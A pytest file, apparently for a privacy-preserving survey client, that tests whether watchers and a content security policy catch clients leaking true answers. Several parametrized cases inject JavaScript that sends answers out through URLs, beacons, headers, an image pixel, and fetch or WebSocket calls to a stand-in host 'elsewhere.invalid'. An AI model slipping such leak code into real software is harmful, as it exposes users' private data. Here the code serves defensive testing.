"""No true answer leaves the device; each watcher is shown to catch a client that leaks one."""

from collections.abc import Callable

import pytest
from collector import Collector, Relay
from device import (
    CANARIES,
    SURVEY,
    Device,
    answer,
    expect_state,
    fill_in,
    press,
    turn_page,
    wait_for,
)
from page_errors import POLICY
from playwright.sync_api import expect
from watchers import (
    check_bodies,
    check_network,
    check_reports,
    check_wire,
    with_fixed_randomness,
)

MakeRelay = Callable[[Collector], Relay]
#: Where the page handles the answers that count.
FILE, REVIEW = "page/review.js", "  const list = one('#review dl');"
ANSWERS = "JSON.stringify(answers)"


def leave(device: Device) -> None:
    """Close all pages, and wait until their last requests have arrived."""
    device.context.new_page()
    for page in device.context.pages[:-1]:
        page.close(run_before_unload=False)
    device.context.pages[-1].wait_for_timeout(300)


def test_network_carries_no_answer(
    device: Device, collector: Collector, survey: str, relay: MakeRelay
) -> None:
    wire = relay(collector)
    answer(device.visit(f"{wire.url}/s/{survey}"), CANARIES)
    leave(device)
    assert len(device.posted()) == 1
    check_network(device, wire, survey)
    check_bodies(device)


@pytest.mark.parametrize(
    ("name", "old", "new"),
    [
        (FILE, REVIEW, f"fetch('/healthz?' + {ANSWERS}).catch(() => 0);\n{REVIEW}"),
        (FILE, REVIEW, f"fetch('/healthz?a=' + btoa({ANSWERS})).catch(() => 0);\n{REVIEW}"),
        (
            FILE,
            REVIEW,
            "location.assign('?' + new URLSearchParams(answers));\n" + REVIEW,
        ),
        (
            FILE,
            REVIEW,
            f"addEventListener('pagehide', () => navigator.sendBeacon('/', {ANSWERS}));\n{REVIEW}",
        ),
        (
            "submit.js",
            "'Content-Type'",
            "'X-Answer': document.querySelector('#debts--number').value, 'Content-Type'",
        ),
        (
            "submit.js",
            "'reports', report.text,",
            "'reports', report.text + document.querySelector('#debts--number').value,",
        ),
    ],
    ids=["query", "base64", "navigation", "farewell", "header", "after-report"],
)
def test_watcher_of_the_network_catches_a_leak(
    new_device: Callable[..., Device],
    serve_client: Callable[..., Collector],
    relay: MakeRelay,
    name: str,
    old: str,
    new: str,
) -> None:
    # An empty form would hide answers from a leak that comes after it.
    served = serve_client(
        (name, old, new),
        ("page/survey.js", "    putBack({});\n    await recall", "    await recall"),
        ("page/survey.js", "  addEventListener('pagehide', leave);\n", ""),
    )
    survey, wire, device = served.publish(SURVEY), relay(served), new_device()
    page = device.visit(f"{wire.url}/s/{survey}")
    expect_state(page, "ready")
    fill_in(page, CANARIES)
    turn_page(page)
    if "location" in new:
        page.wait_for_url("**/s/*?*")
    else:
        press(page)
        ended = page.locator('[data-state="stored"]:visible, [data-state="refused"]:visible')
        expect(ended).to_have_count(1)
    leave(device)

    def is_caught() -> bool:
        try:
            check_network(device, wire, survey)
        except AssertionError:
            return True
        return False

    wait_for(device.context.pages[-1], is_caught)
    with pytest.raises(AssertionError, match=r"is in it|unexpected request|header"):
        check_network(device, wire, survey)


@pytest.mark.provokes(POLICY)
def test_policy_stops_even_a_leaky_client(
    device: Device, serve_client: Callable[..., Collector], relay: MakeRelay
) -> None:
    leaks = {
        "/pixel": f"new Image().src = '/pixel?' + {ANSWERS};",
        "https://elsewhere": f"fetch('https://elsewhere.invalid/?' + {ANSWERS}).catch(() => 0);",
        "wss://elsewhere": f"new WebSocket('wss://elsewhere.invalid/?' + btoa({ANSWERS}));",
    }
    tried = "".join(f"try {{ {leak} }} catch {{}}\n" for leak in leaks.values())
    served = serve_client((FILE, REVIEW, f"{tried}{REVIEW}"))
    survey, wire = served.publish(SURVEY), relay(served)
    page = device.visit(f"{wire.url}/s/{survey}")
    answer(page, CANARIES)
    leave(device)
    blocked = [line for line in device.console if "Content Security Policy" in line]
    assert [leak for leak in leaks if not any(leak in line for line in blocked)] == []
    assert len(device.posted()) == 1
    check_wire(wire, survey)
    got_out = [one.url for one in device.requests if one.failure is None]
    assert all(url.startswith((wire.url, "data:,")) for url in got_out)


def test_body_has_five_keys_and_a_catch_for_a_sixth(
    device: Device, serve_client: Callable[..., Collector]
) -> None:
    served = serve_client(
        ("report.js", "...who, reports }", "...who, pet: prepared.pet.value, reports }")
    )
    answer(device.visit(served.page(served.publish(SURVEY))), CANARIES, "refused")
    with pytest.raises(AssertionError):
        check_bodies(device)


def test_reports_are_drawn_by_the_channel_from_the_random_words(
    device: Device, collector: Collector, survey: str
) -> None:
    with_fixed_randomness(device)
    answer(device.visit(collector.page(survey)), CANARIES)
    check_reports(device, collector.frozen(survey), CANARIES)


@pytest.mark.parametrize(
    ("name", "old", "new"),
    [
        ("randomizer.js", "= CHANNELS[channel.name].randomize(symbol, channel, words);",
         "= symbol;"),
        ("channels.js", "const draw = below(window.total(c), words);",
         "const draw = Math.min(below(window.total(c), words), c.near - 1);"),
        ("exact.js", "return word % total;", "return Math.floor(word / 4) % total;"),
        ("optional/numbers.js", "bernoulli(place % bottom, bottom, words)", "0"),
    ],
    ids=["no channel", "always the truth", "other words", "rounds down"],
)  # fmt: skip
def test_watcher_of_the_draw_catches_a_client_that_draws_otherwise(
    device: Device, serve_client: Callable[..., Collector], name: str, old: str, new: str
) -> None:
    served = serve_client((name, old, new))
    survey = served.publish(SURVEY)
    with_fixed_randomness(device)
    answer(device.visit(served.page(survey)), CANARIES)
    with pytest.raises(AssertionError):
        check_reports(device, served.frozen(survey), CANARIES)
